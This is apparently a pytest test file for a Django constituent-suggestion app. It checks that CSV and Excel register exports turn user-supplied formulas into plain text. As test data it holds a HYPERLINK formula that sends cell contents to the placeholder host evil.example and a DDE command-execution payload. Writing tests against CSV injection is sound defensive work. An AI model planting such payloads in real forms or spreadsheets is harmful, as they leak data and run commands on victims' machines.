"""The register export (page and API, CSV and Excel) never carries a live formula.

A constituent types anything into a public form; whatever lands in a cell that begins with =, +, -, @, tab or
CR must reach the staff member's spreadsheet as text (OWASP "CSV injection": prefix a single quote).
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from liaison.exports import safe_cell
from suggestions.models import Suggestion

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.fixture
def hostile(api, station, staff):
    """Submitted through the public API, as any constituent could."""
    r = api.post(
        "/api/v1/suggestions/",
        {"title": FORMULA, "content": "+1+cmd|' /C calc'!A0", "station": station.pk},
        format="json",
    )
    assert r.status_code == 201, r.content
    return Suggestion.objects.get(tracking_code=r.json()["tracking_code"])


def _login(user):
    from django.test import Client

    c = Client()
    c.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    return c


def _csv_row(response, code: str) -> list[str]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    return next(r for r in rows if code in r)


def _xlsx_row(response, code: str):
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return next(row for row in wb.active.iter_rows() if any(c.value == code for c in row))


def test_csv_export_page_writes_formulas_as_text(hostile, staff):
    r = _login(staff).get("/workspace/suggestions/export.csv")
    assert r.status_code == 200
    row = _csv_row(r, hostile.tracking_code)
    assert "'" + FORMULA in row
    assert "'+1+cmd|' /C calc'!A0" in row
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_xlsx_export_api_writes_formulas_as_text(hostile, client_for, staff):
    r = client_for(staff).get("/api/v1/suggestions/export/?file=xlsx")
    assert r.status_code == 200
    row = _xlsx_row(r, hostile.tracking_code)
    title = next(c for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert title.data_type == "s"  # a string cell, not a formula ("f")
    assert title.value == "'" + FORMULA
    assert all(c.data_type != "f" for c in row)


def test_xlsx_export_page_and_csv_api_agree(hostile, staff, client_for):
    page = _xlsx_row(_login(staff).get("/workspace/suggestions/export.xlsx"), hostile.tracking_code)
    assert all(c.data_type != "f" for c in page)
    api_row = _csv_row(client_for(staff).get("/api/v1/suggestions/export/?file=csv"), hostile.tracking_code)
    assert "'" + FORMULA in api_row


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("小区路灯不亮", "小区路灯不亮"),
        ("", ""),
        (12, 12),  # numbers stay numbers, negative ones too
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
